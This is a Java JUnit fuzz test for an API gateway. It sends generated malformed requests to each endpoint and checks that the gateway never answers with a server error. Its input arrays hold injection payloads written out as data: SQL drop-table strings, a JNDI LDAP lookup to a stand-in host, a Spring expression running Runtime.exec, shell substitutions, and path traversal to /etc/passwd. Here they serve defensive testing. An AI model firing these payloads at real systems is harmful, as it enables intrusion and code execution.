package io.engram.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Generated bad input against every public endpoint: for each, 500 requests from a seeded generator
 * (broken JSON, wrong types, bodies above the limit, invalid UTF-8, odd path segments, SQL and template
 * meta-characters, wrong content types, bad keys) sent over a raw socket. The gateway answers none with a
 * status of 500 or more, and every answer it makes itself is a problem document whose {@code status}
 * matches; what passes its checks reaches the (echoing) service unchanged in meaning.
 */
class BadInputTests extends GatewayTestBase {

  static final int PER_ENDPOINT = 500;
  static final long SEED = Long.getLong("engram.badinput.seed", 20261128L);
  static final JsonMapper JSON = JsonMapper.builder().build();

  @LocalServerPort
  int port;

  record Endpoint(String method, String template) {
  }

  static final List<Endpoint> ENDPOINTS = List.of(
      new Endpoint("POST", "/v1/collections"),
      new Endpoint("GET", "/v1/collections/{x}"),
      new Endpoint("DELETE", "/v1/collections/{x}"),
      new Endpoint("POST", "/v1/collections/{x}/documents"),
      new Endpoint("POST", "/v1/collections/{x}/search"),
      new Endpoint("GET", "/v1/jobs/{x}"),
      new Endpoint("POST", "/v1/memory/{x}/events"),
      new Endpoint("POST", "/v1/memory/{x}/recall"),
      new Endpoint("POST", "/v1/answers"),
      new Endpoint("POST", "/v1/chat/completions"),
      new Endpoint("POST", "/admin/tenants"),
      new Endpoint("GET", "/admin/tenants/{x}"),
      new Endpoint("POST", "/admin/tenants/{x}/keys"),
      new Endpoint("DELETE", "/admin/tenants/{x}/keys/{x}"),
      new Endpoint("PUT", "/admin/tenants/{x}/rate-limit"));

  static final String[] ODD_SEGMENTS = {"..", "%2e%2e", "%2F..%2F", "%00", "%ZZ", "%", "a%0Ab", "%0D%0AX-Injected:%201",
      "x".repeat(3000), "%E2%82%AC%F0%9F%98%80", "%C3%28", "%FF%FE", "'%20OR%201=1--", "%27;drop%20table%20tenants;--",
      "$%7Bjndi:ldap://x/a%7D", "%7B%7B7*7%7D%7D", "#%7BT(java.lang.Runtime)%7D", "%3Cscript%3E", "a;b=c", "a:b", "~",
      "a%5Cb", "..%5C..%5Cetc", "%252e%252e", "null", "-1", "9".repeat(40), " ", "%20", "a b", "\u00e9", "\t"};

  static final String[] META = {"'; drop table gateway.tenants; --", "\" OR \"1\"=\"1", "${jndi:ldap://evil/x}",
      "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${T(java.lang.Runtime).getRuntime().exec('id')}", "\\u0000", "\u0000",
      "%s%s%s%n", "../../etc/passwd", "<script>alert(1)</script>", "\uD800", "\uFFFF", "$(id)", "`id`"};

  @Test
  void generatedMalformedRequestsNeverGetA5xxAndGatewayAnswersAreProblems() throws Exception {
    String tenant = newTenant("bad", Map.of("requestsPerSecond", 1_000_000, "burst", 1_000_000));
    String key = newKey(tenant, "read", "write", "admin");
    Random random = new Random(SEED);
    List<Callable> work = new ArrayList<>();
    for (Endpoint endpoint : ENDPOINTS) {
      for (int i = 0; i < PER_ENDPOINT; i++) {
        work.add(generate(endpoint, key, random));
      }
    }
    Map<String, AtomicInteger> statuses = new ConcurrentHashMap<>();
    List<String> failures = java.util.Collections.synchronizedList(new ArrayList<>());
    AtomicInteger reachedService = new AtomicInteger();
    Semaphore inFlight = new Semaphore(16);
    try (ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Future<?>> futures = new ArrayList<>();
      for (Callable call : work) {
        inFlight.acquire();
        futures.add(executor.submit(() -> {
          try {
            RawHttp.Response response = RawHttp.send(port, call.method(), call.target(), call.headers(), call.body());
            statuses.computeIfAbsent(call.endpoint().template() + " " + response.status(), k -> new AtomicInteger())
                .incrementAndGet();
            check(call, response, failures, reachedService);
          } catch (Exception e) {
            failures.add(call.describe() + " -> " + e);
          } finally {
            inFlight.release();
          }
          return null;
        }));
      }
      for (Future<?> future : futures) {
        future.get();
      }
    }
    assertThat(work).hasSize(ENDPOINTS.size() * PER_ENDPOINT);
    assertThat(failures).as("statuses " + new java.util.TreeMap<>(statuses)).isEmpty();
    // the generator is not so timid that nothing passes, nor so loose that everything does
    assertThat(reachedService.get()).isBetween(1, work.size() - 1);
  }

  private static void check(Callable call, RawHttp.Response response, List<String> failures, AtomicInteger reached) {
    if (response.status() >= 500) {
      failures.add(call.describe() + " -> " + response.status() + " " + response.body());
      return;
    }
    if ("echo".equals(response.header("X-Upstream"))) {
      reached.incrementAndGet();
      return;
    }
    String contentType = response.header("Content-Type");
    if (contentType == null || !contentType.startsWith("application/problem+json")) {
      // answers of the admin API that succeeded are plain JSON
      if (response.status() < 300 && call.endpoint().template().startsWith("/admin")) {
        return;
      }
      failures.add(call.describe() + " -> " + response.status() + " not a problem: " + contentType);
      return;
    }
    JsonNode problem = JSON.readTree(response.body());
    if (problem.path("status").asInt() != response.status() || !problem.path("type").asString().startsWith("https://engram.dev/problems/")) {
      failures.add(call.describe() + " -> problem does not match its status: " + response.body());
    }
  }

  record Callable(Endpoint endpoint, String method, byte[] target, Map<String, String> headers, byte[] body, String kind) {
    String describe() {
      String t = new String(target, StandardCharsets.ISO_8859_1);
      return kind + " " + method + " " + (t.length() > 120 ? t.substring(0, 120) + "..." : t);
    }
  }

  private static Callable generate(Endpoint endpoint, String key, Random random) {
    String segment = random.nextInt(3) == 0 ? ODD_SEGMENTS[random.nextInt(ODD_SEGMENTS.length)] : "ok" + random.nextInt(100);
    byte[] target = endpoint.template().replace("{x}", segment).getBytes(StandardCharsets.UTF_8);
    if (random.nextInt(20) == 0) {
      target = concat(target, "?q=%ZZ&x=".getBytes(StandardCharsets.ISO_8859_1), META[random.nextInt(META.length)].getBytes(StandardCharsets.UTF_8));
    }
    Map<String, String> headers = new LinkedHashMap<>();
    int auth = random.nextInt(10);
    headers.put("Authorization", switch (auth) {
      case 0 -> "Bearer " + META[random.nextInt(META.length)].replaceAll("[\\r\\n\\u0000]", "");
      case 1 -> "Bearer " + key.substring(0, 30);
      default -> "Bearer " + key;
    });
    int kind = random.nextInt(9);
    byte[] body;
    String label;
    String contentType = "application/json";
    switch (kind) {
      case 0 -> {
        String valid = "{\"name\":\"n\",\"query\":\"q\",\"documents\":[{\"id\":\"d\",\"text\":\"t\"}],\"scopes\":[\"read\"]}";
        body = valid.substring(0, random.nextInt(valid.length())).getBytes(StandardCharsets.UTF_8);
        label = "broken-json";
      }
      case 1 -> {
        body = ("{\"id\":" + random.nextInt() + ",\"name\":[1,2],\"query\":{\"a\":true},\"topK\":\"ten\",\"scopes\":\"read\","
            + "\"expiresAt\":12,\"requestsPerSecond\":\"fast\",\"burst\":-1,\"documents\":\"none\",\"events\":7}")
            .getBytes(StandardCharsets.UTF_8);
        label = "wrong-types";
      }
      case 2 -> {
        body = new byte[70 * 1024 + random.nextInt(1024 * 1024 + 1024)];
        java.util.Arrays.fill(body, (byte) '[');
        label = "huge";
      }
      case 3 -> {
        body = concat("{\"id\":\"".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80},
            "\",\"query\":\"\u0000\"}".getBytes(StandardCharsets.UTF_8));
        label = "invalid-utf8";
      }
      case 4 -> {
        String meta = META[random.nextInt(META.length)];
        body = JSON.writeValueAsString(Map.of("id", meta, "name", meta, "query", meta, "scopes", List.of(meta),
            "documents", List.of(Map.of("id", meta, "text", meta)))).getBytes(StandardCharsets.UTF_8);
        label = "meta-characters";
      }
      case 5 -> {
        body = "[".repeat(5000).getBytes(StandardCharsets.UTF_8);
        label = "deep-nesting";
      }
      case 6 -> {
        body = new byte[random.nextInt(2048)];
        random.nextBytes(body);
        contentType = random.nextBoolean() ? "application/octet-stream" : "multipart/form-data";
        label = "random-bytes";
      }
      case 7 -> {
        body = "query=1&topK=2".getBytes(StandardCharsets.UTF_8);
        contentType = random.nextBoolean() ? "text/plain; charset=klingon" : "application/json; charset=latin-9000";
        label = "wrong-content-type";
      }
      default -> {
        body = new byte[0];
        label = "empty";
      }
    }
    headers.put("Content-Type", contentType);
    if (random.nextInt(25) == 0) {
      headers.put("X-Request-Id", "\u00ff\u00fe bad id " + META[random.nextInt(META.length)].replaceAll("[\\r\\n\\u0000]", ""));
    }
    return new Callable(endpoint, endpoint.method(), target, headers, body, label);
  }

  private static byte[] concat(byte[]... parts) {
    int length = 0;
    for (byte[] p : parts) {
      length += p.length;
    }
    byte[] out = new byte[length];
    int at = 0;
    for (byte[] p : parts) {
      System.arraycopy(p, 0, out, at, p.length);
      at += p.length;
    }
    return out;
  }
}
